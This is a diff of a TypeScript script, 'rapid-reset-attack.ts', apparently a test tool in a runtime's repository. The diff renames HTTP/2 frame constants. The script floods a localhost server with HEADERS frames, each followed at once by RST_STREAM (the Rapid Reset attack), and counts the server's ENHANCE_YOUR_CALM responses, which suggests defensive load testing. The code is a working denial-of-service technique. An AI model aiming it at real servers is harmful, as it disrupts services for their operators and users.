@@ -5,7 +5,7 @@
  * Usage: node rapid-reset-attack.ts <port> <streams a second> <seconds>
  */
 import { connect, type Socket } from 'node:net';
-import { FLAG, FRAME, H2_ERROR, PREFACE } from '../../../runtime/protocols/http2/frame-codes.ts';
+import { CLIENT_PREFACE, FRAME_FLAG, FRAME_TYPE, H2_ERROR } from '../../../runtime/protocols/http2/frame-codes.ts';
 
 const [port, rate, seconds] = process.argv.slice(2).map(Number) as [number, number, number];
 const AT_ONCE = 50;
@@ -24,10 +24,10 @@ class Attack {
 	constructor() {
 		connections++;
 		this.#socket = connect({ port, host: '127.0.0.1', noDelay: true });
-		this.#socket.write(Buffer.concat([Buffer.from(PREFACE), frame(FRAME.settings, 0, 0, [])]));
+		this.#socket.write(Buffer.concat([Buffer.from(CLIENT_PREFACE), frame(FRAME_TYPE.settings, 0, 0, [])]));
 		this.#socket.on('error', () => {});
 		this.#socket.on('data', (bytes: Buffer) => {
-			const at = bytes.indexOf(Buffer.from([0, 0, 8, FRAME.goAway, 0, 0, 0, 0, 0]));
+			const at = bytes.indexOf(Buffer.from([0, 0, 8, FRAME_TYPE.goAway, 0, 0, 0, 0, 0]));
 			if (at >= 0 && bytes[at + 16] === H2_ERROR.enhanceYourCalm) calmed++;
 		});
 		this.#socket.on('close', () => open.delete(this));
@@ -42,8 +42,8 @@ class Attack {
 		for (let i = 0; i < BATCH; i++, this.#stream += 2) {
 			// The fields GET, http, / and the authority `a`, in HPACK.
 			const block = [0x82, 0x86, 0x84, 0x41, 0x01, 0x61];
-			frames.push(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, this.#stream, block));
-			frames.push(frame(FRAME.resetStream, 0, this.#stream, [0, 0, 0, H2_ERROR.cancel]));
+			frames.push(frame(FRAME_TYPE.headers, FRAME_FLAG.endHeaders | FRAME_FLAG.endStream, this.#stream, block));
+			frames.push(frame(FRAME_TYPE.resetStream, 0, this.#stream, [0, 0, 0, H2_ERROR.cancel]));
 		}
 		this.#socket.write(Buffer.concat(frames));
 		sent += BATCH;
